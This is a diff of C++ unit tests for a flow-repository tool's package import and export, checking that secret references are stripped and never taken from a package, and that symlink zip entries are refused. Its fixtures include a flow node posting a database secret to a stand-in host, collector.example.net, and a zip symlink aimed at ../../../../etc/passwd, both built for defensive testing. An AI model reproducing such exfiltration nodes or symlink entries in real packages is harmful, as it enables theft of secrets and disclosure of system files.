@@ -17,6 +17,8 @@
 #include "json/json_io.h"
 #include "package/sha256.h"
 #include "repo/repository_impl.h"
+#include "hostile/corpus.h"
+#include "hostile/zip_bytes.h"
 #include "support/raw_zip.h"
 #include "support/test_support.h"
 
@@ -585,13 +587,16 @@ TEST_F(PackageTest, ImportWritesOnlyADraftAndRoundTrips) {
   EXPECT_EQ(shop.id, "shop");
   EXPECT_EQ(shop.unbound_credentials, std::vector<std::string>{"call-0"});
 
-  // Publishing needs the credential bound; then the flows equal the
-  // originals minus what export strips.
+  EXPECT_EQ(shop.unbound_secrets, std::vector<std::string>{"API_TOKEN"});
+
+  // Publishing needs the credential and the secret bound; then the flows
+  // equal the originals.
   ExpectError(ErrorCode::kInvalidData, "", [&] { target.Publish("main", "import-all", "import"); });
   BindRequest bind;
   bind.draft = "import-all";
   bind.flow = "shop";
   bind.credentials = {{"call-0", "prod-binding"}};
+  bind.secrets = {{"API_TOKEN", "vault:team/token"}};
   BindCredentials(target, bind);
   target.Publish("main", "import-all", "import");
   for (const std::string id : {"shop", "kyc", "app"}) {
@@ -600,15 +605,83 @@ TEST_F(PackageTest, ImportWritesOnlyADraftAndRoundTrips) {
     EXPECT_EQ(a.summary.group, b.summary.group) << id;
     EXPECT_EQ(a.flow_definition, b.flow_definition) << id;  // binding restored by bind
     EXPECT_EQ(a.app_definition, b.app_definition) << id;
-    if (id == "shop") {
-      Json env = Json::parse(a.env_variables);
-      env["variables"][1].erase("ref");
-      EXPECT_EQ(CanonicalJson(env), b.env_variables);
-    } else {
-      EXPECT_EQ(a.env_variables, b.env_variables) << id;
-    }
+    EXPECT_EQ(a.env_variables, b.env_variables) << id;      // reference restored by bind
   }
   testing::ExpectFsckClean(dir_ / "target");
+}
+
+TEST_F(PackageTest, SecretReferencesAreNeverTakenFromAPackage) {
+  // The source holds a secret variable with a reference and one holding a
+  // reference without the flag; a node sends the secret to an outside URL.
+  FlowRepository source = Init("source");
+  Flow leaky = MakeFlow("leaky", "Ops");
+  Json def = Json::parse(leaky.flow_definition);
+  def["nodes"][1]["config"] = {{"method", "POST"}, {"url", "https://collector.example.net/in"},
+                               {"body", "{{env.DB_ROOT}}"}};
+  leaky.flow_definition = CanonicalJson(def);
+  const Json env = {{"variables", Json::array({{{"name", "DB_ROOT"}, {"secret", true}, {"ref", "vault:prod/databases/root"}},
+                                               {{"name", "BACKUP"}, {"ref", "vault:prod/backup"}}})}};
+  leaky.env_variables = CanonicalJson(env);
+  Publish(source, {leaky}, "d");
+  ExportResult exported = ExportPackage(source, Request({"leaky"}, "leaky.studiopkg"));
+  // Export writes no reference, whatever the flag.
+  EXPECT_EQ(AllText(exported.path).find("vault:"), std::string::npos);
+  const std::string env_entry = "flows/Ops/leaky/env_variables.json";
+  for (const auto& [name, data] : testing::ReadZipEntries(exported.path)) {
+    if (name == env_entry) {
+      EXPECT_EQ(Json::parse(data)["variables"],
+                Json::parse(R"([{"name": "DB_ROOT", "secret": true}, {"name": "BACKUP", "secret": true}])"));
+    }
+  }
+
+  // A package made otherwise supplies the references; import takes none.
+  const std::string hostile = dir_ / "hostile.studiopkg";
+  WriteFile(hostile, testing::hostile::WithEntry(ReadFile(exported.path), env_entry, CanonicalJson(env)));
+  EXPECT_TRUE(VerifyPackage(hostile).ok());
+  FlowRepository target = Init("target");
+  ImportRequest import;
+  import.package = hostile;
+  ImportResult r = ImportPackage(target, import);
+  ASSERT_EQ(r.flows.size(), 1u);
+  EXPECT_EQ(r.flows[0].unbound_secrets, (std::vector<std::string>{"DB_ROOT", "BACKUP"}));
+  Flow imported = target.ReadFlow("main", ParseFlowSpec("leaky@" + r.draft));
+  EXPECT_EQ(imported.env_variables.find("vault:"), std::string::npos) << imported.env_variables;
+
+  // Publish refuses until every secret is bound.
+  try {
+    target.Publish("main", r.draft, "import");
+    ADD_FAILURE() << "published unbound secrets";
+  } catch (const Error& e) {
+    EXPECT_EQ(e.code(), ErrorCode::kInvalidData);
+    std::string all = e.what();
+    for (const auto& d : e.details()) all += "\n" + d;
+    EXPECT_NE(all.find("flows/Ops/leaky/env_variables.json:/variables/0: secret variable 'DB_ROOT' has no "
+                       "reference; bind one with 'flowrepo bind DRAFT leaky --secret DB_ROOT=REFERENCE' "
+                       "[unbound-secret]"),
+              std::string::npos)
+        << all;
+    EXPECT_NE(all.find("secret variable 'BACKUP' has no reference"), std::string::npos) << all;
+  }
+  BindRequest bind;
+  bind.draft = r.draft;
+  bind.flow = "leaky";
+  bind.secrets = {{"DB_ROOT", "hvs.CAESIJ8xkq9r2Lz7bXwYtH3mN0pQvR5sT6uW1yZ4aB7cD9eF"}};
+  ExpectError(ErrorCode::kInvalidArgument,
+              "the reference for variable 'DB_ROOT' looks like a secret value; bind where the secret is kept "
+              "(vault:..., op://...)",
+              [&] { BindCredentials(target, bind); });
+  bind.secrets = {{"API_BASE", "vault:x"}};
+  ExpectError(ErrorCode::kInvalidArgument, "flow 'leaky' has no secret variable 'API_BASE' (it has 'DB_ROOT', 'BACKUP')",
+              [&] { BindCredentials(target, bind); });
+  bind.secrets = {{"DB_ROOT", "vault:staging/databases/root"}};
+  BindCredentials(target, bind);
+  ExpectError(ErrorCode::kInvalidData, "", [&] { target.Publish("main", r.draft, "import"); });  // BACKUP
+  bind.secrets = {{"BACKUP", "vault:staging/backup"}};
+  BindCredentials(target, bind);
+  target.Publish("main", r.draft, "import");
+  Json published = Json::parse(target.ReadFlow("main", ParseFlowSpec("leaky")).env_variables);
+  EXPECT_EQ(published["variables"][0]["ref"], "vault:staging/databases/root");
+  EXPECT_EQ(published["variables"][1]["ref"], "vault:staging/backup");
 }
 
 TEST_F(PackageTest, ImportRefusesCollisionsAndAsNewRenamesReferences) {
@@ -982,21 +1055,78 @@ TEST_F(HostilePackageTest, NonRegularEncryptedAndUnknownMethodEntriesAreRefused)
                                 "[package/entry-type]");
 }
 
+TEST_F(HostilePackageTest, SymlinksAreRefusedWhateverHostMadeThem) {
+  auto with = [&](std::uint8_t host, std::uint32_t external) {
+    std::vector<testing::hostile::ZipEntry> all;
+    for (const auto& [name, data] : entries_) {
+      all.emplace_back();
+      all.back().name = name;
+      all.back().data = data;
+    }
+    testing::hostile::ZipEntry link;
+    link.name = "flows/Finance/Retail/link/app_definition.json";
+    link.data = "../../../../etc/passwd";
+    link.made_by = static_cast<std::uint16_t>(host << 8 | 20);
+    link.external = external;
+    all.push_back(link);
+    return Write(testing::hostile::BuildZip(all));
+  };
+  const std::string link = "flows/Finance/Retail/link/app_definition.json: ";
+  // A plain file passes the entry checks (to be refused as not listed).
+  auto plain = [&](const std::string& path) {
+    PackageReport report = VerifyPackage(path);
+    return report.problems.size() == 1 && report.problems[0].rule == "package/unlisted-entry";
+  };
+  // Hosts whose attributes unzip reads as a Unix mode: BeOS and Atari
+  // among them, where a symlink mode makes unzip create a symlink.
+  for (std::uint8_t host : {0, 2, 3, 5, 6, 10, 12, 13, 14, 16, 17, 19, 30}) {
+    SCOPED_TRACE("host " + std::to_string(host));
+    const std::string path = with(host, 0120777u << 16);
+    if (host == 5 || host == 16) {
+      const std::string out = dir_ / ("unzipped-" + std::to_string(host));
+      testing::Shell("unzip -qo " + testing::Quote(path) + " -d " + testing::Quote(out));
+      struct stat st;
+      ASSERT_EQ(::lstat((out + "/flows/Finance/Retail/link/app_definition.json").c_str(), &st), 0);
+      EXPECT_TRUE(S_ISLNK(st.st_mode)) << "unzip made no symlink of it";
+    }
+    ExpectRefused(path, link + "is not a regular file (mode 0120777) [package/entry-type]");
+    ExpectRefused(with(host, 0020644u << 16), link + "is not a regular file (mode 020644) [package/entry-type]");
+    EXPECT_TRUE(plain(with(host, 0100644u << 16 | 0x20)));
+    EXPECT_TRUE(plain(with(host, 0x20)));
+  }
+  // Hosts whose attributes mean something else, and unknown ones: nothing
+  // may be set in the upper 16 bits.
+  for (std::uint8_t host : {1, 4, 7, 8, 9, 11, 15, 18, 20, 31, 99, 255}) {
+    SCOPED_TRACE("host " + std::to_string(host));
+    ExpectRefused(with(host, 0120777u << 16),
+                  link + "was made on host system " + std::to_string(host) +
+                      ", whose file attributes (0xa1ff0000) flowrepo cannot read; only plain files are allowed "
+                      "[package/entry-type]");
+    ExpectRefused(with(host, 0100644u << 16),
+                  link + "was made on host system " + std::to_string(host) +
+                      ", whose file attributes (0x81a40000) flowrepo cannot read; only plain files are allowed "
+                      "[package/entry-type]");
+    EXPECT_TRUE(plain(with(host, 0x20)));
+  }
+  // Windows marks symlinks and junctions as reparse points.
+  ExpectRefused(with(10, 0x400 | 0x20), link + "is a symbolic link or another reparse point [package/entry-type]");
+}
+
 TEST_F(HostilePackageTest, LyingSizesAndDamagedContainersAreRefused) {
   std::vector<testing::RawEntry> raw;
   for (const auto& [name, data] : entries_) raw.push_back({name, data});
   raw[2].declared_size = static_cast<std::uint32_t>(raw[2].data.size() - 10);
   ExpectRefused(Write(testing::RawZip(raw)),
                 raw[2].name + ": declares " + std::to_string(raw[2].data.size() - 10) +
-                    " bytes but holds " + std::to_string(raw[2].data.size()) + " [package/entry]");
+                    " bytes but holds more [package/entry]");
   raw[2].declared_size.reset();
   raw[2].crc = 1234;
   ExpectRefused(Write(testing::RawZip(raw)), raw[2].name + ": crc mismatch: the entry is damaged [package/entry]");
   std::string bytes = ReadFile(good_);
   std::string path = Write(bytes.substr(0, bytes.size() / 2));
-  ExpectRefused(path, path + ": not a valid zip archive: Not a zip archive [package/zip]");
+  ExpectRefused(path, path + ": not a valid zip archive: no end of central directory record ends the file [package/zip]");
   path = Write("");
-  ExpectRefused(path, path + ": not a valid zip archive: Not a zip archive [package/zip]");
+  ExpectRefused(path, path + ": not a valid zip archive: no end of central directory record [package/zip]");
   ExpectError(ErrorCode::kNotFound, "package '" + (dir_ / "absent.zip") + "' not found",
               [&] { VerifyPackage(dir_ / "absent.zip"); });
   ExpectError(ErrorCode::kInvalidArgument, "package '" + dir_.path() + "' is not a file",
